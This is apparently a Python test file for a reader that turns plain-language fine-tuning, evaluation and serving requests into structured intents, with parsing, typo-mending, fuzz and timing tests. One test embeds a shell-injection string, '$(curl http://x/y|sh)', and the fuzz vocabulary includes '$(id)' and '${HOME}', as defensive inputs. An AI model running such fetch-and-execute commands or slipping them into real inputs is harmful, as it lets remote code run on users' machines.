"""The offline reader on requests of our own, and on anything at all."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.catalogue.machines import hardware_from_intent, parse_machine
from assistant.reader import read
from assistant.reader.typos import mend

LLAMA = "meta-llama/Llama-3.1-8B-Instruct"
CASES: list[tuple[str, dict[str, Any]]] = [
    ("lora llama3 on 2 A100s", {"task": "train", "model": LLAMA, "method": "lora", "gpu": "A100", "gpu_count": 2}),
    ("QLORA QWEN3 14B 4X4090", {"task": "train", "model": "Qwen/Qwen3-14B", "method": "qlora", "gpu": "RTX4090", "gpu_count": 4}),
    ("please fully fine-tune smollm2 360m, 3 epochs, lr 5e-5", {"task": "train", "model": "HuggingFaceTB/SmolLM2-360M-Instruct", "epochs": 3, "learning_rate": 5e-5}),
    ("lora phi-4, ctx 8k, bs=32, seed 11", {"task": "train", "model": "microsoft/phi-4", "method": "lora", "sequence_length": 8192, "global_batch_size": 32, "seed": 11}),
    ("train gemma 2 9b with lora, rank 8 alpha 16, one H100", {"task": "train", "model": "google/gemma-2-9b-it", "method": "lora", "lora_rank": 8, "lora_alpha": 16, "gpu": "H100", "gpu_count": 1}),
    ("three nodes with 8 H200 each, full fine-tuning of qwen2.5 72b, fsdp", {"task": "train", "model": "Qwen/Qwen2.5-72B-Instruct", "method": "full", "nodes": 3, "gpu": "H200", "gpu_count": 8, "sharding": "fsdp"}),
    ("dpo mistral 7b on data/pairs.jsonl", {"task": "train", "objective": "dpo", "model": "mistralai/Mistral-7B-Instruct-v0.3", "dataset": "data/pairs.jsonl"}),
    ("no lora please, full finetuning of tinyllama", {"task": "train", "method": "full", "model": "TinyLlama/TinyLlama-1.1B-Chat-v1.0"}),
    ("lora llama 3.1 8b training.save_steps=25", {"task": "train", "method": "lora", "model": LLAMA, "overrides": {"training.save_steps": 25}}),
    ("continue pretraining llama 3.2 1b", {"task": "train", "objective": "pretrain", "model": "meta-llama/Llama-3.2-1B"}),
    ("evaluate qwen2.5 3b on hellaswag and mmlu, 5-shot", {"task": "evaluate", "model": "Qwen/Qwen2.5-3B-Instruct", "benchmarks": ["mmlu", "hellaswag"], "num_fewshot": 5}),
    ("serve llama 3.1 8b with vllm on a single L40S", {"task": "infer", "model": LLAMA, "engine": "VLLM", "gpu": "L40S", "gpu_count": 1}),
    ("lora meta-llama/Llama-3.1-8B", {"task": "train", "method": "lora", "model": "meta-llama/Llama-3.1-8B"}),
    ("finetune acme/rocket-lm-3b on 2 L4", {"task": "train", "model": "acme/rocket-lm-3b", "gpu": "L4", "gpu_count": 2}),
    ("lora llama3 on A100 80GB without fsdp", {"task": "train", "method": "lora", "model": LLAMA, "gpu": "A100-80GB", "sharding": "ddp"}),
    ("lora tune qwen3 4b on a macbook pro m4 max with 48GB", {"task": "train", "method": "lora", "model": "Qwen/Qwen3-4B", "gpu": "M-series", "gpu_count": 1, "gpu_memory_gb": 48.0}),
    ("lora lama 3.1 8b", {"task": "train", "method": "lora", "model": LLAMA}),
    ("405b full on a T4", {"task": "train", "method": "full", "model": "meta-llama/Llama-3.1-405B-Instruct", "gpu": "T4", "gpu_count": 1}),
    ("tell me a joke", {}),
    ("", {}),
]  # fmt: skip
OPEN = {"gpu_count": (None, 1), "method": (None, "full")}


@pytest.mark.parametrize(("text", "wanted"), CASES, ids=[c[0][:40] or "empty" for c in CASES])
def test_requests(text: str, wanted: dict[str, Any]) -> None:
    found = read(text).intent.model_dump(exclude_none=True)
    differing = {key for key in {*found, *wanted} if found.get(key) != wanted.get(key)}
    assert all(found.get(key) in OPEN.get(key, ()) for key in differing), found


def test_a_contradiction_is_named() -> None:
    reading = read("full qlora llama 3.1 8b")
    assert reading.intent.method is None
    assert "full fine-tuning and QLoRA" in reading.conflicts[0]


def test_shell_words_are_no_model() -> None:
    assert read("lora $(curl http://x/y|sh) on 2 a100").intent.model is None


def test_an_open_batch_size_is_noted() -> None:
    assert any(note.field == "global_batch_size" for note in read("lora llama3 batch size 64").notes)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_is_read(text: str) -> None:
    read(text)


words = st.sampled_from(["lora", "qlora", "full", "llama3", "qwen", "7b", "2x", "A100", "80GB", "on", "with", "no", "bf16", "bs=4", "./a.jsonl", "org/name", "r=16", "8k", "ctx", "$100", "3", "epochs", ":", "/", "=", "-", "training.x", "$(id)", "${HOME}", "run name", "save to", "'a b'", "\u202e", "dataset"])


@settings(max_examples=300, deadline=None)
@given(st.lists(words, max_size=25))
def test_any_mix_of_our_words_is_read(parts: list[str]) -> None:
    found = read(" ".join(parts))
    assert "\0" not in str((found.intent, found.conflicts, found.unread))


@pytest.mark.parametrize("text", ["x" * 100_000, "a/" * 50_000, "1 " * 50_000, "llama-" * 17_000, "qwen 7b " * 12_000, "0" * 100_000, "- " * 50_000, "(" * 100_000])
@pytest.mark.timing
def test_long_texts_end_soon(text: str) -> None:
    start = time.perf_counter()
    read(text)
    assert time.perf_counter() - start < 5


def test_what_was_cut_off_is_said() -> None:
    assert "beyond the first" in read("lora llama3 " + "word " * 5000).unread[0]


def test_a_log_before_a_request_does_not_hide_it() -> None:
    log = "".join(f"step {n} loss=1.{n} lr=2e-5 File trainer.py line 312\n" for n in range(900))
    reading = read(f"{log}\nlora llama 3.1 8b on 2 A100s")
    assert reading.intent.model == LLAMA
    assert reading.intent.gpu_count == 2
    assert any("lines that differ" in piece for piece in reading.unread)


@pytest.mark.parametrize("text", ["2xA100-80GB", "4x8 H100", "2x24GB", "2x8x80GB", "1xcpu", "cpu:64GB", "M-series:64GB", "1xM-series", "8*H100", "RTX 4090", "A100 80GB"])
def test_words_name_the_machine_that_the_flag_does(text: str) -> None:
    flag = parse_machine(text)
    said, _ = hardware_from_intent(read(f"lora llama 3.1 8b on {text}").intent)
    assert said is not None
    assert (said.nodes, said.count, said.gpu.name, said.gpu.memory_gb) == (flag.nodes, flag.count, flag.gpu.name, flag.gpu.memory_gb)


@pytest.mark.parametrize(("typed", "meant"), [("finetnue", "finetune"), ("lroa", "lora"), ("gema", "gemma"), ("qlroa", "qlora")])
def test_slips_are_mended(typed: str, meant: str) -> None:
    assert mend(f"please {typed} it") == f"please {meant} it"


@pytest.mark.parametrize("word", ["llava", "loha", "lokr", "dora", "deepspeed", "olmo", "mpt", "dolly", "lotr", "trailing", "fsdp"])
def test_other_words_are_left_alone(word: str) -> None:
    assert mend(f"please {word} it") == f"please {word} it"
